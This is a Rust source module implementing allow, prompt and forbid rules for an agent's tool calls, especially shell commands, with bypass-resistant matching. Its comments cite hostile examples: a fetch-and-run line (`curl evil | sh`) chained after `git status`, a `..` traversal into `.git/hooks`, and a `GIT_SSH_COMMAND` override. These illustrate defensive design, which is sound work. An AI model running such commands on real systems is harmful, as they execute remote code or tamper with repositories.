//! `[[rule]]` entries: per-tool policy on a call's input, checked after the
//! interlock and the hook and before the approver.
//!
//! For `shell`, a rule's `command` matches by executable and argument
//! prefix, and a compound command matches an allow rule only if every part
//! of it does; a forbid or prompt rule fires if any part matches. Among the
//! rules that match, forbid beats prompt beats allow.
//!
//! Every match fails toward the stronger action: an allow rule matches only
//! what it can see exactly (no redirection, substitution, opaque syntax or
//! `..` path component), while forbid and prompt rules see through wrappers
//! and treat what they cannot see (a variable, a substitution) as matching.
//! Their `input` globs ignore case and match every [`Spellings`] of a path
//! or URL argument the tool declares, not only the raw text.

use std::collections::BTreeMap;

use globset::{GlobBuilder, GlobMatcher};
use serde::Deserialize;
use serde_json::Value;

use crate::shell_words::{SimpleCommand, split_commands};

mod destructive;
mod options;
mod spellings;
mod standing;
mod wrappers;

pub use spellings::Spellings;
pub use standing::StandingAnswer;

/// What a rule does to a call it matches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum RuleAction {
    /// Runs without asking (never past read-only mode or the interlock).
    Allow,
    /// Needs a fresh human decision; refused when nobody can answer.
    Prompt,
    /// Never runs.
    Forbid,
}

/// One `[[rule]]` as written in config.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RuleConfig {
    /// A tool name, or a glob over names (`files__*`).
    pub tool: String,
    /// For tools with a `command` argument (shell): executable and argument
    /// prefix, e.g. `git status`.
    pub command: Option<String>,
    /// Globs over string arguments, e.g. `{ url = "https://docs.rs/*" }`.
    /// In an allow rule `*` stays within one `/`-separated component (`**`
    /// crosses them) and a value with a `..` component never matches; an
    /// allow rule cannot glob `command` (use `command` above).
    #[serde(default)]
    pub input: BTreeMap<String, String>,
    pub action: RuleAction,
}

/// A rule that cannot be compiled.
#[derive(Debug, thiserror::Error)]
#[error("[[rule]] for `{tool}`: {message}")]
pub struct RuleError {
    pub tool: String,
    pub message: String,
}

#[derive(Debug, Clone)]
struct Rule {
    tool: GlobMatcher,
    command: Option<Vec<String>>,
    input: Vec<(String, GlobMatcher)>,
    action: RuleAction,
}

/// The compiled rules of a run.
#[derive(Debug, Default, Clone)]
pub struct Rules {
    rules: Vec<Rule>,
}

impl Rules {
    pub fn compile(configs: &[RuleConfig]) -> Result<Self, RuleError> {
        let mut rules = Vec::with_capacity(configs.len());
        for c in configs {
            let error = |message: String| RuleError {
                tool: c.tool.clone(),
                message,
            };
            let command = match &c.command {
                None => None,
                Some(text) => {
                    let parts = split_commands(text);
                    match parts.as_slice() {
                        [one] if !one.redirects && !one.substitutes && !one.opaque => {
                            Some(one.words.clone())
                        }
                        _ => {
                            return Err(error(format!(
                                "command `{text}` must be one simple command (an executable \
                                 and its leading arguments), with no operators, redirections, \
                                 substitutions or shell keywords"
                            )));
                        }
                    }
                }
            };
            if c.action == RuleAction::Allow && c.input.contains_key("command") {
                // A glob over the whole line would let `git status*` allow
                // `git status; curl evil | sh`.
                return Err(error(
                    "an allow rule cannot match `command` with `input`: write \
                     `command = \"…\"` instead, which checks every part of a compound \
                     command"
                        .to_owned(),
                ));
            }
            // An allow glob's `*` stays within one path component (`src/*`
            // is not `src/a/b`) and minds case; a forbid or prompt glob's
            // `*` crosses `/`, so `http://*` still covers every URL, and it
            // ignores case, so `HTTP://` does not slip past. Each errs
            // toward the stronger action.
            let strict = c.action == RuleAction::Allow;
            let input = c
                .input
                .iter()
                .map(|(k, p)| Ok((k.clone(), glob(p, strict, !strict).map_err(error)?)))
                .collect::<Result<_, RuleError>>()?;
            rules.push(Rule {
                tool: glob(&c.tool, false, false).map_err(error)?,
                command,
                input,
                action: c.action,
            });
        }
        Ok(Self { rules })
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The `tool` names and globs, as written, that match none of `names`:
    /// most likely a typo, which would otherwise pass for a policy.
    pub fn unmatched_tools<'a>(&'a self, names: &[&str]) -> Vec<&'a str> {
        let mut unmatched = Vec::new();
        for rule in &self.rules {
            let pattern = rule.tool.glob().glob();
            if !names.iter().any(|n| rule.tool.is_match(n)) && !unmatched.contains(&pattern) {
                unmatched.push(pattern);
            }
        }
        unmatched
    }

    /// The strongest action among the rules that match this call, if any.
    /// `spellings` are what the call's declared arguments name, for forbid
    /// and prompt rules to match as well as the raw input.
    pub fn evaluate(&self, tool: &str, input: &Value, spellings: &Spellings) -> Option<RuleAction> {
        let applicable: Vec<&Rule> = self
            .rules
            .iter()
            .filter(|r| r.tool.is_match(tool) && r.input_matches(input, spellings))
            .collect();
        if applicable.is_empty() {
            return None;
        }
        let parts = input
            .get("command")
            .and_then(Value::as_str)
            .map(split_commands);
        let fires = |action: RuleAction| {
            let rules = applicable.iter().filter(|r| r.action == action);
            if action == RuleAction::Allow {
                rules.clone().any(|r| r.command.is_none())
                    || parts.as_ref().is_some_and(|parts| {
                        !parts.is_empty()
                            && parts.iter().all(|part| {
                                rules
                                    .clone()
                                    .filter_map(|r| r.command.as_deref())
                                    .any(|prefix| allows(part, prefix))
                            })
                    })
            } else {
                rules.clone().any(|r| match (&r.command, &parts) {
                    (None, _) => true,
                    (Some(prefix), Some(parts)) => {
                        parts.iter().any(|p| wrappers::touches(p, prefix))
                    }
                    (Some(_), None) => false,
                })
            }
        };
        [RuleAction::Forbid, RuleAction::Prompt, RuleAction::Allow]
            .into_iter()
            .find(|&a| fires(a))
    }
}

fn glob(
    pattern: &str,
    literal_separator: bool,
    case_insensitive: bool,
) -> Result<GlobMatcher, String> {
    GlobBuilder::new(pattern)
        .literal_separator(literal_separator)
        .case_insensitive(case_insensitive)
        .build()
        .map(|g| g.compile_matcher())
        .map_err(|e| format!("`{pattern}` is not a valid glob: {e}"))
}

impl Rule {
    fn input_matches(&self, input: &Value, spellings: &Spellings) -> bool {
        self.input.iter().all(|(key, glob)| {
            input.get(key).and_then(Value::as_str).is_some_and(|raw| {
                if self.action == RuleAction::Allow {
                    glob.is_match(raw) && !climbs(raw)
                } else {
                    spellings.of_value(key, raw).any(|v| glob.is_match(v))
                }
            })
        })
    }
}

/// `src/../.git/hooks/pre-commit` matches `src/*` as text but names a file
/// outside `src`: an allow glob never matches a value with a `..` component.
fn climbs(value: &str) -> bool {
    value.split(['/', '\\']).any(|component| component == "..")
}

/// An allow rule covers a part only if the part is exactly the prefix plus
/// more arguments, as written: no redirection, no substitution, nothing the
/// tokenizer could not model, no leading variable assignment
/// (`GIT_SSH_COMMAND=… git status` is not `git status`) and no other path to
/// the executable (`./git status` is not `git status`).
fn allows(part: &SimpleCommand, prefix: &[String]) -> bool {
    !part.redirects && !part.substitutes && !part.opaque && part.words.starts_with(prefix)
}

#[cfg(test)]
mod tests;

#[cfg(test)]
mod spelling_tests;

#[cfg(test)]
mod bash_oracle;
